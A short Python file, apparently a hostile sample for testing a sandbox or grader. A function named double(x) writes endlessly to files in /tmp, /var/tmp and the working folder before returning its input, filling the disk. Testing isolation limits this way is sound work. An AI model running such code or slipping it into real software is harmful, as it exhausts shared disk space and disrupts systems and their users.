"""Writes a file without end, and outside its folder."""


def double(x):
    for path in ("/tmp/torchstone-flood", "/var/tmp/torchstone-flood", "flood"):
        try:
            with open(path, "wb") as file:
                while True:
                    file.write(b"x" * (1 << 24))
        except OSError:
            pass
    return x
